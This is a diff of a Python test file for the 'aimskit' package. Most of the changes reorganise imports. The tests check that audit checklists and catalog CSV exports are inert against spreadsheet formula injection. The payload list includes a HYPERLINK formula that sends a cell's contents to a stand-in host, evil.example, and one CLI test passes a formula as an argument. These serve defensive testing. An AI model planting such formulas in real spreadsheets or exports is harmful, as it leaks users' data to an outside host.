@@ -9,10 +9,11 @@ import shutil
 import pandas as pd
 import pytest
 
-from aimskit import engagement, resources, spreadsheet
-from aimskit.reports import risk as risk_view
+from aimskit import engagement
+from aimskit.base import resources, spreadsheet
 from aimskit.steps import audit as audit_step
 from aimskit.steps import risk as risk_step
+from aimskit.steps.risk import view as risk_view
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -121,7 +122,7 @@ def test_audit_checklist_is_inert(tmp_path):
 def test_catalog_csv_exports_are_inert():
     from click.testing import CliRunner
 
-    from aimskit.cli import cli
+    from aimskit.ui.cli import cli
 
     res = CliRunner().invoke(
         cli, ["catalog", "crosswalk", "iso42001", "nist-ai-rmf", "=HYPERLINK(1)", "--format", "csv"]
